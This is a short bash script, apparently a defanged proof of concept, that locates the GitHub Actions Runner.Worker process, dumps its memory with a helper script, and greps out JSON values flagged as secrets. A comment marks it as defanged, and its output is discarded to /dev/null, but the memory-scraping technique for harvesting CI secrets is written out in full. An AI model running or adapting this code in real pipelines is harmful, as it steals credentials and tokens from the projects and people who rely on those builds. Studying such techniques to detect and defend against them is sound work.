#!/bin/bash
# defanged: output goes to /dev/null
PID=$(pgrep -f Runner.Worker)
python3 memdump.py "$PID" | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' >/dev/null
